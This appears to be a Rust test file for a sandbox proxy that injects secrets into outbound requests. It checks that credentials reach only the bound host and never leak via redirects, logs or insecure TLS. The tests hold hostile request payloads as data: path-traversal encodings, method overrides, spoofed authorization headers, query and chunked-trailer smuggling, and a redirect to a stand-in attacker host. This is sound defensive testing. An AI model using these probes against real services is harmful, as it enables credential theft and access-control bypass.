//! C1 to C4, C8, C10, H6 and H14: what is added to requests reaches the one server that it is for, and nobody inside.

use super::{Attack, Told};
use crate::site::{EVIL, SITE, forms};

/// What the site is brought; in small letters, as it keeps what it heard.
const SECRET: &str = "geheim-7c21d9-of-the-attacks";

/// An installation that keeps a secret.
fn attack() -> Attack {
    let attack = Attack::new();
    keep(&attack, "KEY", SECRET);
    attack
}

fn keep(attack: &Attack, name: &str, value: &str) {
    let file = attack.world.dir().join("value");
    std::fs::write(&file, value).expect("a file");
    let [site, evil] = [SITE, EVIL].map(|host| format!("{host}:{}", attack.site.port));
    let from = file.display().to_string();
    attack.world.holm(["secret", "set", name, "--for", &site, "--for", &evil, "--from-file", &from]).succeeds();
    std::fs::remove_file(file).expect("it is there");
}

impl Attack {
    fn bearer(&self, path: &str) -> String {
        format!("{SITE}:{}{path}=bearer:KEY", self.site.port)
    }

    /// Runs a program that may ask the site for anything, with flags of its own.
    #[track_caller]
    fn bearing(&self, flags: &[&str], body: &str) -> Told {
        self.program_with_flags(&self.site.rule("GET,POST", "/"), flags, body)
    }

    /// How often the site was brought something.
    fn brought(&self, what: &str) -> usize {
        self.site.heard().matches(what).count()
    }
}

/// C1: a server tells what it was brought: in its head, and in its answer in every form.
#[test]
pub fn c01_what_a_server_tells_of_a_secret_is_masked() {
    let attack = attack();
    let port = attack.site.port.to_string();
    let text = format!(
        "curl --silent --show-error --include https://{SITE}:{port}/reflect
curl --silent --show-error --include --http1.1 --no-buffer --raw https://{SITE}:{port}/reflect
curl --silent --show-error --include --request TRACE https://{SITE}:{port}/reflect
curl --silent --show-error --include https://{SITE}:{port}/open/reflect"
    );
    let (rule, credential) = (attack.site.rule("GET", "/"), attack.bearer(""));
    let ran =
        attack.world.run(["--allow", &rule, "--credential", &credential, "--", "/bin/sh", "-c", &text]).succeeds();
    let said = ran.text();
    for (name, form) in forms(SECRET) {
        assert!(!said.contains(&form), "{name}: {said}");
        let stars = format!("{name} <{}>", "*".repeat(form.len()));
        assert_eq!(said.matches(&stars).count(), 2, "{name}: {said}");
    }
    let stars = "*".repeat(SECRET.len());
    for field in [format!("token={stars}; Path=/"), format!("location: https://{EVIL}/?token={stars}")] {
        assert!(said.contains(&field), "{field}: {said}");
    }
    assert!(said.contains("method_never_allowed"), "{said}");
    assert_eq!(attack.brought(&format!("authorization: bearer {SECRET}")), 3, "{}", attack.site.heard());
    assert!(!attack.site.wire().contains(SECRET), "it came within TLS alone");
}

/// C1: it is bound to its host, port, methods and path, however a request is spelt.
#[test]
pub fn c01_a_secret_is_brought_where_it_is_bound_to_and_nowhere_else() {
    let attack = attack();
    let credential = format!("POST {}", attack.bearer("/api"));
    attack
        .bearing(
            &["--credential", &credential],
            r#"
def post(path):
    return head(f"POST {path} HTTP/1.1", HOST, "Content-Length: 0", CLOSE)
told("control", say(post("/api/x")))
for path in ["/", "/apix", "/API/x", "/open", "/api/../open", "/api/..%2fopen", "/api/%2e%2e/open", "/api//x", "//api/x", "/open?/api/", "/api;/../open", "/ap%69/x"]:
    told(path, say(post(path)))
told("get", say(head("GET /api/x HTTP/1.1", HOST, "X-HTTP-Method-Override: POST", CLOSE)))
"#,
        )
        .first_is("control", "200 closed")
        .all(13, &["200 closed", "403 closed", "400 closed"]);
    assert_eq!(attack.brought(SECRET), 1, "{}", attack.site.heard());
}

/// C2: a redirect to elsewhere is the client's to follow, and what was added is not.
#[test]
fn c02_a_redirect_takes_nothing_along() {
    let attack = attack();
    let text =
        format!("curl --silent --location --location-trusted https://{SITE}:{}/elsewhere; echo $?", attack.site.port);
    let evil = format!("{EVIL}:{}", attack.site.port);
    let flags = ["--allow", &attack.site.rule("GET", "/"), "--allow", &evil, "--credential", &attack.bearer("")]
        .map(str::to_owned);
    let command = ["--", "/bin/sh", "-c", &text].map(str::to_owned);
    attack.world.run(flags.iter().chain(&command)).succeeds();
    assert_eq!(attack.brought(SECRET), 1, "{}", attack.site.heard());
    assert_eq!(attack.site.asked(), [format!("GET /elsewhere {SITE}")]);
}

/// C3: an account of the sandbox's own on a host that is allowed.
#[test]
pub fn c03_no_request_is_made_for_somebody_elses_account() {
    let attack = attack();
    let credential = attack.bearer("/api");
    let body = r#"
own = ["Authorization: Bearer evil", "X-Api-Key: evil"]
told("control", say(head("GET /api HTTP/1.1", HOST, CLOSE)))
for path in ["/api", "/open"]:
    for field in own:
        told(path + field, say(head(f"GET {path} HTTP/1.1", HOST, field, CLOSE)))
    told(path + "query", say(head(f"GET {path}?access_token=evil HTTP/1.1", HOST, CLOSE)))
"#;
    attack.bearing(&["--credential", &credential], body).all(7, &["200 closed"]);
    attack.left_only(&["GET /api", "GET /open"]);
    let told = attack.bearing(&["--credential", &credential, "--require-ours"], body);
    told.are(&[
        ("control", "200 closed"),
        ("/apiAuthorization:_Bearer_evil", "403 closed"),
        ("/apiX-Api-Key:_evil", "403 closed"),
        ("/apiquery", "403 closed"),
        ("/openAuthorization:_Bearer_evil", "200 closed"),
        ("/openX-Api-Key:_evil", "200 closed"),
        ("/openquery", "200 closed"),
    ]);
    attack.left_only(&["GET /api", "GET /open"]);
    assert!(attack.reasons().contains("the request bears a credential of its own"), "{}", attack.reasons());
}

/// C4: without TLS, or over TLS whose certificate is not to be trusted.
#[test]
fn c04_a_secret_leaves_over_tls_that_was_checked_and_over_nothing_else() {
    let attack = attack();
    let port = attack.site.port;
    let evil = format!("{EVIL}:{port}=bearer:KEY");
    let text = format!(
        "curl --silent --insecure --output /dev/null --write-out '%{{http_code}}\\n' https://{EVIL}:{port}/open
curl --silent --output /dev/null http://{SITE}:{port}/open; echo $?
curl --silent --output /dev/null http://{EVIL}:{port}/open; echo $?"
    );
    let flags = ["--credential", &evil, "--credential", &attack.bearer("")].map(str::to_owned);
    let command = ["--", "/bin/sh", "-c", &text].map(str::to_owned);
    let ran = attack.world.run(flags.iter().chain(&command)).succeeds();
    let said: Vec<&str> = ran.text().lines().collect();
    assert_eq!(said[0], "502", "{ran}");
    assert!(said[1..].iter().all(|code| *code != "0"), "{ran}");
    assert_eq!((attack.brought(SECRET), attack.site.wire().contains(SECRET)), (0, false));
    assert!(attack.reasons().contains("the certificate of the server is not trusted"), "{}", attack.reasons());
}

/// C8: nothing that Holm says of a run has its secrets, however much it says.
#[test]
fn c08_no_log_no_event_and_no_view_has_a_secret() {
    let mut attack = Attack::loud("trace");
    keep(&attack, "KEY", SECRET);
    let query = format!("{SITE}:{}/query=query:key:KEY", attack.site.port);
    let credentials = ["--credential", &attack.bearer(""), "--credential", &query].map(str::to_owned);
    let flags: Vec<&str> = credentials.iter().map(String::as_str).collect();
    let told = attack.bearing(
        &flags,
        r#"
told("control", say(head("GET /open HTTP/1.1")))
told("query", say(head("GET /query HTTP/1.1")))
told("hang", sent_plain(SITE, port, b"x"))
"#,
    );
    assert_eq!((told.of("control"), told.of("query")), (vec!["200 open"], vec!["200 open"]));
    assert!(attack.brought(&format!("get /query?key={SECRET}")) == 1, "{}", attack.site.heard());
    let run = attack.world.newest();
    let view = attack.world.show(&run).to_string();
    let events = format!("{:?}", attack.world.events(&run));
    assert!(view.contains("bearer") && view.contains("KEY"), "what is added is told: {view}");
    let log = attack.world.up_complains();
    assert!(log.contains("a secret was given to a run") && log.contains(&run), "{}", log.len());
    assert!(log.contains("h2::") || log.contains("hyper"), "the libraries say what they do as well");
    for (what, text) in [("view", view), ("events", events), ("log", log)] {
        for (name, form) in forms(SECRET) {
            assert!(!text.contains(&form), "{what} has it as {name}");
        }
    }
    attack.world.stop_up();
}

/// C10: what stands for a secret in one sandbox is nothing in another, and nothing at another host.
#[test]
fn c10_what_stands_for_a_secret_is_worth_nothing() {
    let attack = attack();
    let credential = attack.bearer("/api");
    let body = r#"
import os
told("placed", os.environ.get("API_KEY"))
for path in ["/api", "/open"]:
    told(path, say(head(f"GET {path} HTTP/1.1", HOST, "Authorization: Bearer holm-placeholder-KEY", CLOSE)))
"#;
    let told = attack.bearing(&["--credential", &credential, "--placeholder", "API_KEY=KEY", "--require-ours"], body);
    told.are(&[("placed", "holm-placeholder-KEY"), ("/api", "200 closed"), ("/open", "200 closed")]);
    assert_eq!((attack.brought(SECRET), attack.brought("holm-placeholder")), (1, 0));
    let told = attack.bearing(&[], body);
    told.are(&[("placed", "None"), ("/api", "200 closed"), ("/open", "200 closed")]);
    assert_eq!((attack.brought(SECRET), attack.brought("holm-placeholder-key")), (1, 2));
}

/// H6: a value of the client's own in the place of one that is added, in every way to write it.
#[test]
fn h06_what_the_client_set_in_the_place_of_a_secret_is_gone() {
    let attack = attack();
    let port = attack.site.port;
    let credentials = [
        attack.bearer(""),
        format!("{SITE}:{port}=header:cookie:session={{KEY}}"),
        format!("{SITE}:{port}=query:api_key:KEY"),
    ];
    let flags: Vec<&str> = credentials.iter().flat_map(|credential| ["--credential", credential]).collect();
    let told = attack.bearing(
        &flags,
        r#"
told("control", say(head("GET /open HTTP/1.1", HOST, CLOSE)))
told("fields", say(head("GET /open HTTP/1.1", HOST, "AUTHORIZATION: Bearer evil", "authorization: Basic evil", "Cookie: session=evil", "cOOKIE: b=evil", "X-API-KEY: evil", "X_Api_Key: evil", "Connection: authorization, cookie, close")))
told("query", say(head("GET /open?api_key=evil&API_KEY=evil&%61pi_key=evil&api%5Fkey=evil&api_key;api_key=evil&+api-key=evil&api_key[]=evil HTTP/1.1", HOST, CLOSE)))
chunked = "POST /open HTTP/1.1", HOST, "Transfer-Encoding: chunked", "Trailer: Authorization"
told("trailer", say(head(*chunked) + b"1\r\nx\r\n0\r\nAuthorization: Bearer evil\r\nCookie: evil\r\n\r\n"))
"#,
    );
    told.are(&[
        ("control", "200 closed"),
        ("fields", "200 closed"),
        ("query", "200 closed"),
        ("trailer", "200 closed"),
    ]);
    let heard = attack.site.heard();
    assert!(!heard.contains("evil"), "{heard}");
    for brought in [
        format!("authorization: bearer {SECRET}\r"),
        format!("cookie: session={SECRET}\r"),
        format!("?api_key={SECRET} "),
    ] {
        assert_eq!(attack.brought(&brought), 5, "{brought}: {heard}");
    }
}

/// H14: answers in parts, and in forms in which nothing can be found.
#[test]
pub fn h14_an_answer_cannot_be_had_in_a_form_in_which_nothing_is_found() {
    let attack = attack();
    let told = attack.bearing(
        &["--credential", &attack.bearer("")],
        r#"
told("control", say(head("GET /open HTTP/1.1")))
told("part", say(head("GET /open HTTP/1.1", HOST, "Range: bytes=0-3", "If-Range: x", "Accept-Encoding: gzip, br, zstd")))
told("compressed", say(head("GET /compressed HTTP/1.1")))
"#,
    );
    told.are(&[("control", "200 open"), ("part", "200 open"), ("compressed", "502 closed")]);
    let heard = attack.site.heard();
    assert!(!heard.contains("range:") && !heard.contains("gzip"), "{heard}");
    assert_eq!(attack.brought("accept-encoding: identity"), 4, "{heard}");
    assert!(attack.reasons().contains("the server compressed its answer"), "{}", attack.reasons());
}
